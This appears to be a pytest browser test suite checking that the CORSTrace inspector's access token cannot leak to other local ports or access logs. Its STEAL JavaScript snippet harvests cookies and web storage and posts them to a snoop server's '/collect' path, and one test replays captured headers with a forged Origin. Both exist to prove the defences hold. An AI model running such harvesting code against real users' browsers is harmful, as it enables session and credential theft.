"""The inspector's credential in real Chromium: nothing usable leaves the inspector's origin, none of it is logged,
and the demo frontend's link opens a live inspector.

Each test opens the URL the running middleware announces (``CORSTraceMiddleware.inspector_url``), as a person
copying it from the startup log would.
"""

from __future__ import annotations

import json
import logging
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, JSONResponse, Response
from starlette.routing import Route

from corstrace import CORSTraceMiddleware
from tests.support import run_server

pytestmark = pytest.mark.browser

TOKEN = "Qm7vT2-xK9pL4_nB8rW3cY6hJ1fD5sZ0"


def expect(locator: Any) -> Any:
    from playwright.sync_api import expect as playwright_expect

    playwright_expect.set_options(timeout=5000)
    return playwright_expect(locator)


def _api(request: Request) -> JSONResponse:
    return JSONResponse({"ok": True})


@pytest.fixture
def inspector(monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[str, str]]:
    """An app with the inspector on, served by uvicorn: (its base URL, the URL it announces)."""
    monkeypatch.setenv("CORSTRACE_INSPECTOR_TOKEN", TOKEN)
    tracer = CORSTraceMiddleware(Starlette(routes=[Route("/api", _api)]), inspector=True)
    with run_server(tracer) as base:
        port = int(base.rsplit(":", 1)[1])
        url = tracer.inspector_url("127.0.0.1", port)
        assert url is not None
        yield base, url


def open_live(page: Any, url: str) -> None:
    page.goto(url)
    expect(page.locator("#conn")).to_have_attribute("data-state", "live")


def secrets_in(text: str) -> list[str]:
    """Which forms of the token ``text`` contains (raw, or hex as the handshake carries it)."""
    return [form for form in (TOKEN, TOKEN.encode().hex()) if form in text]


# --- another local port learns nothing -------------------------------------------------------------


class Snoop:
    """Another server on loopback (a stranger's dev server, a container on the host network): logs everything."""

    def __init__(self) -> None:
        self.received: list[dict[str, Any]] = []

        async def anything(request: Request) -> Response:
            body = (await request.body()).decode("latin-1")
            self.received.append({"url": str(request.url), "headers": request.headers.items(), "body": body})
            if request.url.path == "/":
                return HTMLResponse("<!doctype html><title>snoop</title><p>snoop</p>")
            return JSONResponse({"seen": True})

        self.app = Starlette(routes=[Route("/{path:path}", anything, methods=["GET", "POST"])])

    def text(self) -> str:
        return json.dumps(self.received)


STEAL = """async ([inspectorBase]) => {
    const found = {cookie: document.cookie, local: {...localStorage}, session: {...sessionStorage}};
    // Same-site requests to its own server, on the paths the inspector uses: a cookie for them would come along.
    for (const path of ["/_corstrace/", "/_corstrace/ws", "/"]) {
        await fetch(path, {credentials: "include"});
    }
    await fetch("/collect", {method: "POST", body: JSON.stringify(found), credentials: "include"});
    // And straight at the inspector: an opaque answer at best (CORP same-origin makes it a network error),
    // and its WebSocket refuses this origin.
    try { await fetch(inspectorBase + "/_corstrace/", {credentials: "include", mode: "no-cors"}); } catch {}
    const opened = await new Promise((resolve) => {
        const ws = new WebSocket(inspectorBase.replace("http", "ws") + "/_corstrace/ws");
        ws.onopen = () => resolve(true);
        ws.onerror = () => resolve(false);
    });
    return {found, opened};
}"""


def test_a_page_on_another_loopback_port_obtains_nothing_that_opens_the_websocket(
    inspector: tuple[str, str], page: Any
) -> None:
    """After the inspector is open, pages on other ports (127.0.0.1 and localhost) get no cookie, no storage,
    no token; replaying everything their server received does not open the inspector's WebSocket."""
    import websockets
    from websockets.sync.client import connect

    base, url = inspector
    open_live(page, url)
    snoop = Snoop()
    with run_server(snoop.app) as snoop_base:
        stolen = []
        for host in ("127.0.0.1", "localhost"):
            other = page.context.new_page()
            other.goto(snoop_base.replace("127.0.0.1", host) + "/")
            stolen.append(other.evaluate(STEAL, [base]))
            other.close()
    assert [attempt["opened"] for attempt in stolen] == [False, False]
    assert secrets_in(json.dumps(stolen)) == []
    assert secrets_in(snoop.text()) == []
    # The other server now replays, from a non-browser client (it can forge Origin), every header it received.
    for request in snoop.received:
        replayed = {name: value for name, value in request["headers"] if name in ("cookie", "authorization")}
        with pytest.raises(websockets.InvalidStatus) as refused:
            with connect(
                base.replace("http://", "ws://") + "/_corstrace/ws",
                origin=websockets.Origin(base),
                additional_headers=replayed,
            ):
                pass
        assert refused.value.response.status_code == 403
    assert page.context.cookies() == []


def test_the_token_reaches_no_access_log(monkeypatch: pytest.MonkeyPatch, page: Any) -> None:
    """Opening, reloading and reconnecting the inspector leaves no form of the token in uvicorn's access log."""
    monkeypatch.setenv("CORSTRACE_INSPECTOR_TOKEN", TOKEN)
    lines: list[str] = []

    class Collect(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            lines.append(record.getMessage())

    access = logging.getLogger("uvicorn.access")
    handler = Collect()
    access.addHandler(handler)
    try:
        tracer = CORSTraceMiddleware(Starlette(routes=[Route("/api", _api)]), inspector=True)
        with run_server(tracer, log_level="info", access_log=True, log_config=None) as base:
            url = tracer.inspector_url("127.0.0.1", int(base.rsplit(":", 1)[1]))
            assert url is not None
            open_live(page, url)
            page.reload()
            expect(page.locator("#conn")).to_have_attribute("data-state", "live")
    finally:
        access.removeHandler(handler)
    assert any("/_corstrace/" in line for line in lines), lines  # the log did record the inspector's requests
    assert [line for line in lines if secrets_in(line)] == []


def test_the_page_without_a_token_says_where_to_find_it(inspector: tuple[str, str], page: Any) -> None:
    """The bare page (no fragment, fresh tab) loads, shows no data and tells the user to open the startup URL."""
    base, _ = inspector
    page.goto(base + "/_corstrace/")
    expect(page.locator("#conn")).to_have_attribute("data-state", "down")
    expect(page.locator("#conn-text")).to_contain_text("#token=")


def test_the_token_stays_in_this_tab_across_reloads(inspector: tuple[str, str], page: Any) -> None:
    """sessionStorage keeps the token for reloads and reconnects, once the fragment is gone from the URL."""
    base, url = inspector
    open_live(page, url)
    assert "#" not in page.url
    page.reload()
    expect(page.locator("#conn")).to_have_attribute("data-state", "live")


# --- the demo frontend's link ----------------------------------------------------------------------------


def test_the_demo_frontends_inspector_link_opens_a_live_inspector(tmp_path: Path, page: Any) -> None:
    """`corstrace demo`: the frontend (localhost) links to the inspector (127.0.0.1), a cross-site navigation
    in a new tab; the inspector must come up live, not the 403 page."""
    from tests.test_demo import _spawn_demo, _stop

    demo = _spawn_demo(tmp_path, "--api-port", "0", "--frontend-port", "0")
    try:
        urls = demo.banner_urls()
        assert "#token=" in urls["inspector"] and "?token=" not in urls["inspector"]
        page.goto(urls["frontend"])
        with page.context.expect_page() as opened:
            page.click("#inspector-link")
        inspector_page = opened.value
        expect(inspector_page.locator("#conn")).to_have_attribute("data-state", "live")
        assert "#" not in inspector_page.url
    finally:
        assert _stop(demo) == 0


def test_a_token_with_url_special_characters_works_end_to_end(monkeypatch: pytest.MonkeyPatch, page: Any) -> None:
    """`openssl rand -base64 24` gives `+`, `/` and `=`: the fragment is percent-encoded, the page decodes it and
    hex-encodes it for the handshake, so any printable token opens the stream."""
    monkeypatch.setenv("CORSTRACE_INSPECTOR_TOKEN", "a+b/c=d&e#f%g?h~j.k-l_m!n*o'p(q)r")
    tracer = CORSTraceMiddleware(Starlette(routes=[Route("/api", _api)]), inspector=True)
    with run_server(tracer) as base:
        url = tracer.inspector_url("127.0.0.1", int(base.rsplit(":", 1)[1]))
        assert url is not None and "+" not in url.split("#", 1)[1]
        open_live(page, url)
